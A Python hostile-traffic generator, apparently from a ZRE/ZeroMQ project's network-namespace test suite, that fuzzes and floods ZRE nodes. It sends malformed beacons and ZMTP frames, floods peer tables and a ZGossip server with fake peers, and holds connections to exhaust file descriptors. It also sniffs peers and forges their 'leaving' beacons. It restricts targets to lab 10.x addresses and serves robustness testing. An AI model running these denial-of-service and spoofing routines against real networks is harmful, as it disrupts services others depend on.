#!/usr/bin/env python3
"""Hostile traffic for the ZRE namespace test (tests/hostile_netns.rs).

Sends a bounded amount of junk to ZRE nodes in a network-namespace lab:

  UDP, to the beacon port (broadcast on the lab LAN):
    random datagrams; truncated, oversized, wrong-version and port-0
    beacons; version-3 (54-byte) beacons; beacons from N distinct fake
    UUIDs pointing at dead endpoints (ports on this host where nothing
    listens), spread over a few seconds so that the peer tables churn.
  TCP, to each inbox:
    raw junk (random bytes, truncated ZMTP greetings, frames that claim
    absurd sizes, one just over the node's 64 MiB message limit);
    DEALERs with routing ids of every length 1..255 sending random
    multipart messages;
    HELLOs whose counts (groups, headers) claim far more than they carry;
    well-formed HELLOs from fake peers (dead endpoints, odd names,
    many groups and headers) followed by messages with absurd sequence
    numbers, JOIN floods and silence (so that they must expire);
    valid headers of every message id with absurd sequence numbers from
    peers that never said HELLO.

With --only, one phase runs alone (tests/netns/exhaustion.rs):
  beacons   the fake-UUID beacons above, nothing else;
  connections
            --connections TCP connections to each --inbox, each through
            the ZMTP handshake as a DEALER's (greeting and READY), held
            open for --hold-seconds (a stranger's way to take every
            descriptor a node has); counts those the node closed;
  gossip    --gossip-tuples PUBLISHes to the ZGossip server --gossip-server,
            each a random UUID with a dead endpoint (half on this host's
            dead ports, half on absent hosts .200-.249 of this host's /24:
            connections to those hang until they time out), TTL 0 (kept
            for ever, as a czmq server keeps every tuple);
  leaving   listens on the beacon port for --sniff-seconds and then, for
            --beacon-seconds, sends every 250 ms a port-0 ("leaving")
            beacon with each UUID it heard: a forged goodbye of every
            live peer on the LAN, from this host's address.

Every loop is bounded by a count and the whole run by --max-seconds.
Targets must be private 10.x addresses (the lab's); anything else is
refused. Except for `--only leaving`, the genuine nodes' UUIDs and
endpoints are never used: that is traffic from a stranger, not an
impersonation.

Prints `PHASE <name>` as it goes and, at the end, one line
`ATTACK-DONE {json counts}`.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import threading
import time
import uuid

import zmq

LAB_NET = ipaddress.ip_network("10.0.0.0/8")
SIGNATURE = b"\xaa\xa1"
IDS = {
    "HELLO": 1,
    "WHISPER": 2,
    "SHOUT": 3,
    "JOIN": 4,
    "LEAVE": 5,
    "PING": 6,
    "PING_OK": 7,
    "ELECT": 8,
    "LEADER": 9,
    "GOODBYE": 10,
}

counts = {}
counts_lock = threading.Lock()


def count(key, n=1):
    with counts_lock:
        counts[key] = counts.get(key, 0) + n


def lab_ip(text):
    ip = ipaddress.ip_address(text)
    if ip not in LAB_NET:
        sys.exit(f"attacker: refusing target {text}: not a lab (10.x) address")
    return str(ip)


def lab_endpoint(text):
    if not text.startswith("tcp://"):
        sys.exit(f"attacker: refusing endpoint {text!r}")
    host, _, port = text[len("tcp://"):].rpartition(":")
    lab_ip(host)
    return text, host, int(port)


# ----- wire helpers ---------------------------------------------------------


def string(s):
    b = s if isinstance(s, bytes) else s.encode()
    return bytes([len(b)]) + b


def longstr(s):
    b = s if isinstance(s, bytes) else s.encode()
    return struct.pack(">I", len(b)) + b


def header(msg_id, sequence, version=2):
    return SIGNATURE + bytes([msg_id, version]) + struct.pack(">H", sequence)


def hello(endpoint, groups=(), status=0, name="fake", headers=(), sequence=1):
    body = string(endpoint)
    body += struct.pack(">I", len(groups)) + b"".join(longstr(g) for g in groups)
    body += bytes([status]) + string(name)
    body += struct.pack(">I", len(headers))
    body += b"".join(string(k) + longstr(v) for k, v in headers)
    return header(IDS["HELLO"], sequence) + body


def beacon(uid, port, version=1):
    return b"ZRE" + bytes([version]) + uid.bytes + struct.pack(">H", port)


# ----- UDP ------------------------------------------------------------------


def udp_socket(iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    return s


def udp_junk(args, rng, deadline):
    s = udp_socket(args.iface)
    target = (args.beacon_addr, args.beacon_port)
    dead = args.dead_port_base

    def send(kind, payload):
        if time.monotonic() > deadline:
            return
        try:
            s.sendto(payload, target)
            count(kind)
        except OSError:
            count(kind + "_failed")

    print("PHASE udp-junk", flush=True)
    for i in range(args.junk):
        send("udp_random", rng.randbytes(rng.randrange(0, 1400)))
        uid = uuid.UUID(bytes=rng.randbytes(16))
        good = beacon(uid, dead + i % 1000)
        # Truncated: every length short of a beacon.
        send("beacon_truncated", good[: rng.randrange(0, len(good))])
        # Oversized: a valid beacon with junk after it, up to a jumbo size.
        send("beacon_oversized", good + rng.randbytes(rng.choice([1, 10, 600, 1400, 8000])))
        # Wrong version and wrong signature.
        send("beacon_bad_version", beacon(uid, dead, version=rng.choice([0, 2, 4, 255])))
        send("beacon_bad_signature", b"ZRF" + good[3:])
        # Port 0: "leaving", for peers that never existed.
        send("beacon_port0", beacon(uid, 0))
        # Version 3 (CURVE, 54 bytes): a valid beacon of another dialect.
        if i % 10 == 0:
            send("beacon_v3", b"ZRE\x03" + uid.bytes + struct.pack(">H", dead) + rng.randbytes(32))
        if i % 50 == 0:
            time.sleep(0.01)
    s.close()


def fake_beacons(args, rng, deadline):
    """N distinct fake UUIDs, each announced a few times, spread over
    --beacon-seconds; endpoints are this host's dead ports."""
    s = udp_socket(args.iface)
    target = (args.beacon_addr, args.beacon_port)
    print("PHASE fake-beacons", flush=True)
    n = args.fake_uuids
    uids = [uuid.UUID(bytes=rng.randbytes(16)) for _ in range(n)]
    # Each UUID is beaconed in two rounds, as a live node would repeat it.
    schedule = list(range(n)) + list(range(n))
    per_tick = max(1, len(schedule) // max(1, int(args.beacon_seconds * 50)))
    for start in range(0, len(schedule), per_tick):
        if time.monotonic() > deadline:
            break
        for i in schedule[start : start + per_tick]:
            try:
                s.sendto(beacon(uids[i], args.dead_port_base + i % 1000), target)
                count("fake_beacons")
            except OSError:
                count("fake_beacons_failed")
        time.sleep(0.02)
    count("fake_uuids", n)
    s.close()


# ----- ZGossip: stale tuples --------------------------------------------------

GOSSIP_SIGNATURE = b"\xaa\xa0"


def gossip_frame(msg_id, body=b""):
    return GOSSIP_SIGNATURE + bytes([msg_id, 1]) + body


def stale_tuples(args, rng, ctx, deadline):
    """--gossip-tuples tuples of random UUIDs with dead endpoints, published
    to --gossip-server (HELLO, then PUBLISH key value ttl=0)."""
    print("PHASE stale-tuples", flush=True)
    endpoint, _, _ = lab_endpoint(args.gossip_server)
    absent = args.my_ip.rsplit(".", 1)[0]
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 10000)
    s.setsockopt(zmq.SNDHWM, 0)
    s.connect(endpoint)
    s.send(gossip_frame(1))
    for i in range(args.gossip_tuples):
        if time.monotonic() > deadline:
            break
        key = uuid.UUID(bytes=rng.randbytes(16)).hex.upper()
        if i % 2 == 0:
            value = f"tcp://{args.my_ip}:{args.dead_port_base + i % 1000}"
        else:
            value = f"tcp://{absent}.{200 + i % 50}:{args.dead_port_base + i % 1000}"
        s.send(gossip_frame(2, string(key) + longstr(value) + struct.pack(">I", 0)))
        count("stale_tuples")
    # Stay long enough for the server to take them all (PING keeps us known).
    for tick in range(int(args.gossip_linger * 10)):
        if time.monotonic() > deadline:
            break
        if tick % 10 == 0:
            s.send(gossip_frame(3))
        time.sleep(0.1)
    return [s]


# ----- TCP: raw ZMTP ----------------------------------------------------------


def greeting():
    return b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def ready_command(identity=None):
    body = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    if identity is not None:
        body += b"\x08Identity" + struct.pack(">I", len(identity)) + identity
    if len(body) < 256:
        return b"\x04" + bytes([len(body)]) + body
    return b"\x06" + struct.pack(">Q", len(body)) + body


def raw_connect(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return s


def raw_junk(args, rng, endpoints, deadline):
    print("PHASE raw-zmtp", flush=True)
    cases = [
        ("tcp_random_bytes", lambda: rng.randbytes(rng.randrange(1, 8192))),
        ("tcp_truncated_greeting", lambda: greeting()[: rng.randrange(1, 64)]),
        ("tcp_greeting_then_junk", lambda: greeting() + rng.randbytes(512)),
        # A frame claiming 2^40 bytes, one just over 64 MiB, one with the
        # top bit set (negative as a signed 64-bit size), one empty
        # identity and one of 255 bytes, then a frame cut short.
        ("tcp_frame_huge", lambda: greeting() + ready_command() + b"\x02" + struct.pack(">Q", 1 << 40)),
        (
            "tcp_frame_over_limit",
            lambda: greeting() + ready_command() + b"\x02" + struct.pack(">Q", (64 << 20) + 1) + b"x" * 4096,
        ),
        ("tcp_frame_negative", lambda: greeting() + ready_command() + b"\x02" + struct.pack(">Q", 1 << 63)),
        ("tcp_empty_identity", lambda: greeting() + ready_command(b"") + b"\x01\x05hello\x00\x03abc"),
        (
            "tcp_cut_frame",
            lambda: greeting() + ready_command(rng.randbytes(255)) + b"\x00\xffshort",
        ),
        ("tcp_bad_command", lambda: greeting() + b"\x04\x08\x05HELLO!!" + rng.randbytes(64)),
    ]
    for _, host, port in endpoints:
        for _ in range(args.raw_rounds):
            for kind, make in cases:
                if time.monotonic() > deadline:
                    return
                try:
                    s = raw_connect(host, port)
                    s.sendall(make())
                    # Give the node a moment to read it before the reset.
                    time.sleep(0.002)
                    s.close()
                    count(kind)
                except OSError:
                    count(kind + "_failed")


# ----- TCP: libzmq DEALERs -------------------------------------------------------


def dealer(ctx, endpoint, identity):
    d = ctx.socket(zmq.DEALER)
    d.setsockopt(zmq.LINGER, 3000)
    d.setsockopt(zmq.SNDHWM, 100000)
    if identity is not None:
        d.setsockopt(zmq.ROUTING_ID, identity)
    d.connect(endpoint)
    return d


def random_message(rng):
    frames = []
    for _ in range(rng.randrange(1, 6)):
        size = rng.choice([0, 1, 2, 6, 7, 30, 200, 4096, rng.randrange(0, 65536)])
        frames.append(rng.randbytes(size))
    # Half the time a plausible header first.
    if rng.random() < 0.5:
        frames[0] = header(rng.randrange(0, 12), rng.randrange(0, 65536)) + frames[0][:64]
    return frames


def identities_of_every_length(args, rng, ctx, endpoints, deadline):
    print("PHASE identities", flush=True)
    sockets = []
    for endpoint, _, _ in endpoints:
        for length in range(1, 256):
            if time.monotonic() > deadline:
                break
            ident = rng.randbytes(length)
            if length == 17:
                # The node's own layout ([1] + UUID), for a UUID nobody has.
                ident = b"\x01" + uuid.UUID(bytes=rng.randbytes(16)).bytes
            try:
                d = dealer(ctx, endpoint, ident)
            except zmq.ZMQError:
                count("identity_refused")
                continue
            for _ in range(args.messages_per_identity):
                d.send_multipart(random_message(rng))
                count("random_multipart")
            sockets.append(d)
        # No identity at all: the ROUTER makes one up.
        d = dealer(ctx, endpoint, None)
        for _ in range(args.messages_per_identity):
            d.send_multipart(random_message(rng))
            count("random_multipart")
        sockets.append(d)
    return sockets


def fake_identity():
    uid = uuid.uuid4()
    return uid, b"\x01" + uid.bytes


def protocol_abuse(args, rng, ctx, endpoints, my_ip, deadline):
    print("PHASE protocol", flush=True)
    sockets = []
    dead = args.dead_port_base
    for endpoint, _, _ in endpoints:
        if time.monotonic() > deadline:
            break
        # HELLOs whose counts claim more than they carry.
        for claim in [0xFFFFFFFF, 0x7FFFFFFF, 1 << 24, 65536, 1000]:
            _, ident = fake_identity()
            d = dealer(ctx, endpoint, ident)
            base = header(IDS["HELLO"], 1) + string(f"tcp://{my_ip}:{dead}")
            d.send_multipart([base + struct.pack(">I", claim) + b"\x00\x00\x00\x01g"])
            d.send_multipart(
                [base + struct.pack(">I", 0) + b"\x00" + string("huge") + struct.pack(">I", claim) + b"\x01k"]
            )
            # A string whose length runs past the end.
            d.send_multipart([header(IDS["HELLO"], 1) + b"\xff" + b"tcp://x"])
            count("hello_huge_count", 3)
            sockets.append(d)

        # Valid headers of every id with absurd sequence numbers, from
        # peers that never said HELLO.
        for msg_id in range(0, 256, 1 if args.all_ids else 17):
            _, ident = fake_identity()
            d = dealer(ctx, endpoint, ident)
            for seq in [0, 2, 65535, 32768, rng.randrange(0, 65536)]:
                d.send_multipart([header(msg_id, seq) + rng.randbytes(rng.randrange(0, 40)), b"payload"])
                count("absurd_sequence_no_hello")
            sockets.append(d)

        # Fake peers that do say HELLO (dead endpoints), then misbehave.
        for i in range(args.fake_hellos):
            if time.monotonic() > deadline:
                break
            _, ident = fake_identity()
            d = dealer(ctx, endpoint, ident)
            port = dead + 1000 + i
            kind = i % 6
            if kind == 0:
                # A HELLO with an absurd sequence number itself.
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", ["g"], sequence=65535)])
                count("hello_absurd_sequence")
            elif kind == 1:
                # HELLO, then a SHOUT with an absurd sequence number.
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", ["g"], name="f" * 255)])
                d.send_multipart([header(IDS["SHOUT"], 40000) + string("g"), b"forged"])
                count("hello_then_absurd_shout")
            elif kind == 2:
                # Many groups and headers in HELLO, then silence: must expire.
                groups = [f"grp{n}" for n in range(args.hello_groups)]
                hdrs = [(f"X-{n}", "v" * (n % 300)) for n in range(200)]
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", groups, name="many", headers=hdrs)])
                count("hello_many_groups")
            elif kind == 3:
                # HELLO then a JOIN flood of distinct groups, then silence.
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", [], name="joiner")])
                for n in range(args.join_flood):
                    d.send_multipart([header(IDS["JOIN"], 2 + n) + string(f"j{n}") + bytes([(n + 1) % 256])])
                count("join_flood", args.join_flood)
            elif kind == 4:
                # HELLO with endpoints that are not endpoints.
                bogus = rng.choice(
                    ["", "tcp://", "ipc:///tmp/x", "tcp://999.1.1.1:1", f"tcp://{my_ip}:0", "x" * 255]
                )
                d.send_multipart([hello(bogus, ["g"], name="bogus")])
                count("hello_bogus_endpoint")
            else:
                # A duplicate HELLO, then PINGs and a WHISPER in order, then silence.
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", ["g"], name="twice")])
                d.send_multipart([hello(f"tcp://{my_ip}:{port}", ["g"], name="twice")])
                d.send_multipart([header(IDS["PING"], 2)])
                d.send_multipart([header(IDS["WHISPER"], 3), b"hi"])
                count("hello_twice")
            sockets.append(d)
    return sockets


def forged_leaving(args, deadline):
    """--only leaving: see the module's docstring."""
    print("PHASE sniffing", flush=True)
    heard = set()
    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listen.bind(("", args.beacon_port))
    listen.settimeout(0.1)
    end = min(deadline, time.monotonic() + args.sniff_seconds)
    while time.monotonic() < end:
        try:
            data, _ = listen.recvfrom(2048)
        except socket.timeout:
            continue
        # Version 1 (22 bytes) or 3 (54, with a key): the UUID at 4..20,
        # the port at 20..22; port 0 is someone's own goodbye.
        if len(data) in (22, 54) and data[:3] == b"ZRE" and data[20:22] != b"\0\0":
            heard.add(bytes(data[:20]) + (data[22:] if len(data) == 54 else b""))
    listen.close()
    count("uuids_heard", len(heard))
    print(f"PHASE forging {len(heard)}", flush=True)
    s = udp_socket(args.iface)
    target = (args.beacon_addr, args.beacon_port)
    end = min(deadline, time.monotonic() + args.beacon_seconds)
    while time.monotonic() < end:
        for head in heard:
            # The same beacon with port 0 (and its key, for version 3).
            try:
                s.sendto(head[:20] + b"\0\0" + head[20:], target)
                count("leaving_forged")
            except OSError:
                count("leaving_forged_failed")
        time.sleep(0.25)
    s.close()


def held_connections(args, endpoints, deadline):
    """--only connections: see the module's docstring."""
    print("PHASE connections", flush=True)
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections * len(endpoints) + 256
    if soft < want:
        top = want if hard == resource.RLIM_INFINITY else min(want, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (top, hard))
    held = []
    for _, host, port in endpoints:
        # Once the node accepts no more, its listen backlog fills and new
        # connections time out: a few in a row end the opening.
        failed_in_a_row = 0
        for _ in range(args.connections):
            if time.monotonic() > deadline or failed_in_a_row >= 5:
                break
            try:
                s = socket.create_connection((host, port), timeout=1)
                s.sendall(greeting() + ready_command(fake_identity()[1]))
                s.setblocking(False)
                held.append(s)
                count("connections_opened")
                failed_in_a_row = 0
            except OSError:
                count("connections_failed")
                failed_in_a_row += 1
    print(f"PHASE holding {len(held)}", flush=True)
    end = min(deadline, time.monotonic() + args.hold_seconds)
    open_ = list(held)
    while time.monotonic() < end and open_:
        still = []
        for s in open_:
            try:
                data = s.recv(4096)
            except BlockingIOError:
                still.append(s)
                continue
            except OSError:
                data = b""
            if data:
                still.append(s)
            else:
                count("connections_closed_by_node")
        open_ = still
        time.sleep(0.2)
    count("connections_held_to_the_end", len(open_))
    for s in held:
        s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", required=True, help="the lab interface to send beacons out of")
    p.add_argument("--my-ip", required=True, help="this host's lab address (dead endpoints point here)")
    p.add_argument("--beacon-addr", required=True, help="broadcast address of the lab LAN")
    p.add_argument("--beacon-port", type=int, default=5670)
    p.add_argument("--inbox", action="append", default=[], help="tcp://IP:PORT of a node (repeatable)")
    p.add_argument("--fake-uuids", type=int, default=10000)
    p.add_argument("--beacon-seconds", type=float, default=8.0)
    p.add_argument("--junk", type=int, default=500, help="rounds of UDP junk")
    p.add_argument("--raw-rounds", type=int, default=3)
    p.add_argument("--messages-per-identity", type=int, default=4)
    p.add_argument("--fake-hellos", type=int, default=60)
    p.add_argument("--hello-groups", type=int, default=2000)
    p.add_argument("--join-flood", type=int, default=2000)
    p.add_argument("--all-ids", action="store_true", help="every message id 0..255, not every 17th")
    p.add_argument("--dead-port-base", type=int, default=20000)
    p.add_argument("--seed", type=int, default=int.from_bytes(os.urandom(4), "big"))
    p.add_argument("--max-seconds", type=float, default=60.0)
    p.add_argument(
        "--only", choices=["beacons", "gossip", "connections", "leaving"], help="run this one phase alone"
    )
    p.add_argument("--sniff-seconds", type=float, default=3.0, help="how long to listen (--only leaving)")
    p.add_argument("--connections", type=int, default=1500, help="connections per inbox (--only connections)")
    p.add_argument("--hold-seconds", type=float, default=20.0, help="how long they are held (--only connections)")
    p.add_argument("--gossip-server", help="tcp://IP:PORT of a ZGossip server (--only gossip)")
    p.add_argument("--gossip-tuples", type=int, default=5000)
    p.add_argument("--gossip-linger", type=float, default=2.0, help="seconds to stay after publishing")
    args = p.parse_args()

    lab_ip(args.my_ip)
    args.beacon_addr = lab_ip(args.beacon_addr)
    endpoints = [lab_endpoint(e) for e in args.inbox]
    started = time.monotonic()
    deadline = started + args.max_seconds
    print(f"PHASE start seed={args.seed}", flush=True)

    rng = random.Random(args.seed)
    ctx = zmq.Context()
    if args.only == "beacons":
        fake_beacons(args, random.Random(args.seed + 1), deadline)
        sockets = []
    elif args.only == "connections":
        held_connections(args, endpoints, deadline)
        sockets = []
    elif args.only == "leaving":
        forged_leaving(args, deadline)
        sockets = []
    elif args.only == "gossip":
        if not args.gossip_server:
            sys.exit("attacker: --only gossip needs --gossip-server")
        sockets = stale_tuples(args, rng, ctx, deadline)
    else:
        sockets = everything(args, rng, ctx, endpoints, deadline)
    # Let the DEALERs flush (bounded by their linger), then go.
    print("PHASE closing", flush=True)
    for s in sockets:
        s.close()
    ctx.term()
    with counts_lock:
        summary = dict(sorted(counts.items()))
    summary["seconds"] = round(time.monotonic() - started, 2)
    summary["dealer_sockets"] = len(sockets)
    print("ATTACK-DONE " + json.dumps(summary), flush=True)


def everything(args, rng, ctx, endpoints, deadline):
    """Every phase but --only's: the hostile_netns test's attack."""
    # Fake HELLOs first, while the peer tables have room for them; then the
    # fake beacons fill the tables (and keep them full) while the rest runs.
    sockets = protocol_abuse(args, rng, ctx, endpoints, args.my_ip, deadline)
    beacons = threading.Thread(
        target=fake_beacons, args=(args, random.Random(args.seed + 1), deadline), daemon=True
    )
    beacons.start()
    udp_junk(args, rng, deadline)
    raw_junk(args, rng, endpoints, deadline)
    sockets += identities_of_every_length(args, rng, ctx, endpoints, deadline)
    beacons.join(max(0.0, deadline - time.monotonic()))
    return sockets


if __name__ == "__main__":
    main()
